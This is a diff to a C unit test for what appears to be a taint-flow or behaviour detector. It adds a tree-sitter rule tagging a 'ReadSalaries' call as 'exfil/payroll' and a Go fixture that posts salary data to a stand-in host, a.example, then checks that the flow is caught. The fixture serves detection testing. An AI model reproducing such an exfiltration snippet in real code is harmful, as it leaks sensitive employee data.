@@ -69,6 +69,14 @@ static void another_language(void **state)
 	assert_non_null(js_case_find(c, FACT_FLOW, "file>net@exfil/payroll", NULL));
 	js_case_free(c);
 	user_rules_clear();
+	add("pay.go.scm", "((call_expression function: (selector_expression field: (field_identifier) @name)) @source (#eq? @name \"ReadSalaries\")"
+		" (#set! source file) (#set! behaviour \"exfil/payroll\"))\n");
+	c = js_case_steps(LANGUAGE_GO, STR_NONE,
+		STR("package a\nimport (\n\t\"net/http\"\n\t\"strings\"\n)\nfunc f() {\n\thttp.Post(\"https://a.example/\", \"a/b\", strings.NewReader(pay.ReadSalaries()))\n}\n"),
+		100000000);
+	assert_non_null(js_case_find(c, FACT_FLOW, "file>net@exfil/payroll", NULL));
+	js_case_free(c);
+	user_rules_clear();
 }
 
 static void mistakes_have_a_place(void **state)
